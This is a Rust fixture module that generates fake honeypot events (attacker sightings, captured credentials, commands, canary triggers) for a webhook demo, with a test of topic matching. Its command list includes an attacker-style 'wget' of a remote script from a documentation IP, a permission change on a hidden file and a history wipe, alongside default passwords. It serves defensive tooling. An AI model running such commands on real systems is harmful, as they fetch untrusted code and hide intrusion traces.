//! Attackers that do not exist, from addresses that documentation is written with (RFC 5737).

use serde_json::{Value, json};

/// What the demo's subscription asks for.
pub(super) const PATTERNS: [&str; 4] = ["attacker.>", "credential.>", "decky.*.state", "canary.>"];

const USERS: [&str; 6] = ["root", "admin", "oracle", "pi", "postgres", "support"];
const PASSWORDS: [&str; 6] = [
    "123456",
    "admin",
    "raspberry",
    "P@ssw0rd",
    "letmein",
    "changeme",
];
const COMMANDS: [&str; 5] = [
    "uname -a",
    "cat /proc/cpuinfo",
    "wget http://198.51.100.23/x.sh",
    "chmod 777 /tmp/.x",
    "history -c",
];
const COUNTRIES: [&str; 5] = ["NL", "BR", "VN", "US", "CN"];

/// The `number`th event of the stream, always the same one.
pub(super) fn event(number: usize) -> Value {
    let ip = format!(
        "{}.{}",
        ["192.0.2", "203.0.113"][number / 6 % 2],
        7 + number / 6 * 13 % 240
    );
    let pick = |list: &[&'static str]| list[(number * 7 + number / 6) % list.len()];
    let decky = format!("decky-{:02}", 1 + number / 6 % 4);
    let (topic, kind, payload) = match number % 6 {
        0 => (
            "attacker.observed".to_owned(),
            "observed",
            json!({"ip": ip, "country": pick(&COUNTRIES), "decky": decky, "port": 22}),
        ),
        1 => (
            "attacker.fingerprinted".to_owned(),
            "fingerprinted",
            json!({"ip": ip, "client": "SSH-2.0-Go", "hassh": "92674389fa1e47a27ddd8d9b63ecd42b"}),
        ),
        2 => (
            "credential.captured".to_owned(),
            "captured",
            json!({"ip": ip, "user": pick(&USERS), "password": pick(&PASSWORDS), "service": "ssh"}),
        ),
        3 => (
            "attacker.command".to_owned(),
            "command",
            json!({"ip": ip, "decky": decky, "input": pick(&COMMANDS)}),
        ),
        4 => (
            format!("decky.{decky}.state"),
            "state",
            json!({"decky": decky, "state": "engaged", "sessions": 1 + number / 6 % 3}),
        ),
        _ => (
            "canary.triggered".to_owned(),
            "triggered",
            json!({"ip": ip, "token": "aws-keys.txt", "decky": decky}),
        ),
    };
    json!({"topic": topic, "type": kind, "payload": payload})
}

#[cfg(test)]
mod tests {
    use webhook_model::{Topic, TopicPattern};

    use super::*;

    #[test]
    fn the_demos_subscription_gets_every_event() {
        let patterns = PATTERNS.map(|pattern| TopicPattern::parse(pattern).unwrap());
        for number in 0..500 {
            let event = event(number);
            let topic = Topic::parse(event["topic"].as_str().unwrap()).unwrap();
            assert!(
                patterns.iter().any(|pattern| pattern.matches(&topic)),
                "{topic}"
            );
            assert!(event["payload"].is_object());
        }
    }
}
